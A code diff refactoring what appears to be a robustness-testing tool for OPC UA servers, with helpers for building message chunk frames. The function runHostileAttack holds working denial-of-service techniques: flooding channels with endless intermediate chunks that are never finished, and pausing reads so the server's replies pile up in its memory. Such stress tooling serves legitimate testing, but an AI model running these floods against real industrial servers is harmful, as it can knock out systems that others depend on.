@@ -68,6 +68,13 @@ class EndWatch implements MessageHandler {
   ended = false;
   private wake: (() => void) | null = null;
 
+  static on(channel: UaClientChannel): EndWatch {
+    const watch = new EndWatch();
+    channel.loadHandler = watch;
+    channel.socket.once("close", () => watch.end());
+    return watch;
+  }
+
   beginBatch(): void {}
   onMessage(): void {}
   endBatch(): void {}
@@ -99,23 +106,27 @@ class EndWatch implements MessageHandler {
   }
 }
 
+/** One MSG chunk of request `requestId` with `part` as its body, on the channel's next sequence number. */
+function chunkFrame(channel: UaClientChannel, kind: FrameKind.MSGC | FrameKind.MSGF, requestId: number, part: Buffer): Buffer {
+  const f = Buffer.allocUnsafe(MSG_BODY_OFFSET + part.length);
+  f.writeUInt32LE(kind, 0);
+  f.writeUInt32LE(f.length, 4);
+  f.writeUInt32LE(channel.channelId, 8);
+  f.writeUInt32LE(channel.tokenId, 12);
+  f.writeUInt32LE(++channel.sequenceNumber, 16);
+  f.writeUInt32LE(requestId, 20);
+  part.copy(f, MSG_BODY_OFFSET);
+  return f;
+}
+
 /** Frames of one MSG message body split into chunks of at most `chunkSize` bytes ('C' ... 'F'). */
 function messageChunks(channel: UaClientChannel, body: Buffer, chunkSize: number): Buffer[] {
   const room = chunkSize - MSG_BODY_OFFSET;
   const requestId = ++channel.requestId;
   const frames: Buffer[] = [];
   for (let at = 0; at < body.length; at += room) {
-    const part = body.subarray(at, Math.min(body.length, at + room));
     const last = at + room >= body.length;
-    const f = Buffer.allocUnsafe(MSG_BODY_OFFSET + part.length);
-    f.writeUInt32LE(last ? FrameKind.MSGF : FrameKind.MSGC, 0);
-    f.writeUInt32LE(f.length, 4);
-    f.writeUInt32LE(channel.channelId, 8);
-    f.writeUInt32LE(channel.tokenId, 12);
-    f.writeUInt32LE(++channel.sequenceNumber, 16);
-    f.writeUInt32LE(requestId, 20);
-    part.copy(f, MSG_BODY_OFFSET);
-    frames.push(f);
+    frames.push(chunkFrame(channel, last ? FrameKind.MSGF : FrameKind.MSGC, requestId, body.subarray(at, Math.min(body.length, at + room))));
   }
   return frames;
 }
@@ -143,34 +154,25 @@ export async function runHostileAttack(params: HostileAttackParams): Promise<Hos
   const flooder = async (): Promise<void> => {
     while (performance.now() < end) {
       flood.connections++;
-      let channel: UaClientChannel;
+      let channel: UaClientChannel | undefined;
       try {
         channel = await UaClientChannel.open({ host: params.host, port: params.port, endpointUrl: params.endpointUrl, callTimeoutMs: 5000 });
-        live.add(channel);
         await channel.openSecureChannel();
+        live.add(channel);
       } catch (err) {
+        channel?.destroy();
         count(flood.endings, `refused: ${endingOf(err as Error)}`);
         await sleep(100);
         continue;
       }
-      const watch = new EndWatch();
-      channel.loadHandler = watch;
-      channel.socket.once("close", () => watch.end());
+      const watch = EndWatch.on(channel);
       const chunkSize = Math.min(channel.serverLimits?.receiveBufferSize ?? 65536, 65536);
       const body = Buffer.alloc(chunkSize - MSG_BODY_OFFSET, 0x41);
       const requestId = ++channel.requestId;
       // Intermediate chunks of one request, as fast as the server takes them; never a final one.
       while (!watch.ended && performance.now() < end) {
-        const f = Buffer.allocUnsafe(chunkSize);
-        f.writeUInt32LE(FrameKind.MSGC, 0);
-        f.writeUInt32LE(chunkSize, 4);
-        f.writeUInt32LE(channel.channelId, 8);
-        f.writeUInt32LE(channel.tokenId, 12);
-        f.writeUInt32LE(++channel.sequenceNumber, 16);
-        f.writeUInt32LE(requestId, 20);
-        body.copy(f, MSG_BODY_OFFSET);
         flood.bytesSent += chunkSize;
-        if (!channel.socket.write(f)) await watch.wait(Math.max(1, end - performance.now()), channel);
+        if (!channel.socket.write(chunkFrame(channel, FrameKind.MSGC, requestId, body))) await watch.wait(Math.max(1, end - performance.now()), channel);
       }
       live.delete(channel);
       if (watch.ended) count(flood.endings, endingOf(watch.error));
@@ -191,9 +193,7 @@ export async function runHostileAttack(params: HostileAttackParams): Promise<Hos
         await sleep(100);
         continue;
       }
-      const watch = new EndWatch();
-      channel.loadHandler = watch;
-      channel.socket.once("close", () => watch.end());
+      const watch = EndWatch.on(channel);
       // Never read again: the server's answers pile up in its socket, then in its memory.
       channel.socket.pause();
       const chunkSize = Math.min(channel.serverLimits?.receiveBufferSize ?? 65536, 65536);
